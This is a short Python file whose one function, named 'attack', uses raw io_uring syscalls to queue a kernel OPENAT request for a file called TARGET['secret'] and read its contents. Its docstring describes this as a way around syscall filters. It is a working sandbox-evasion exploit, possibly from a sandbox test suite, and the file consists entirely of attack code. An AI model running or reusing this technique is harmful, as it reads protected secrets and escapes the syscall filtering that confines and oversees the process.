"""Has the kernel open the file from a ring of requests, which no filter of calls sees."""

import ctypes
import mmap
import os
import struct


def attack(A):
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(ctypes.c_long(425), ctypes.c_long(2), parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    tail, array = (struct.unpack_from("I", parameters.raw, 40 + at)[0] for at in (4, 24))
    results = struct.unpack_from("I", parameters.raw, 80 + 20)[0]
    requests, entries = mmap.mmap(ring, 4096, offset=0), mmap.mmap(ring, 4096, offset=0x10000000)
    path = ctypes.create_string_buffer(TARGET["secret"].encode())
    entries[:24] = struct.pack("BBHiQQ", 18, 0, 0, -100, 0, ctypes.addressof(path))  # OPENAT
    requests[array : array + 4] = struct.pack("I", 0)
    requests[tail : tail + 4] = struct.pack("I", 1)
    one, none = ctypes.c_long(1), ctypes.c_long(0)
    libc.syscall(ctypes.c_long(426), ctypes.c_long(ring), one, one, one, none, none)
    descriptor = struct.unpack_from("i", requests[results : results + 16], 8)[0]
    return os.read(descriptor, 100).decode()
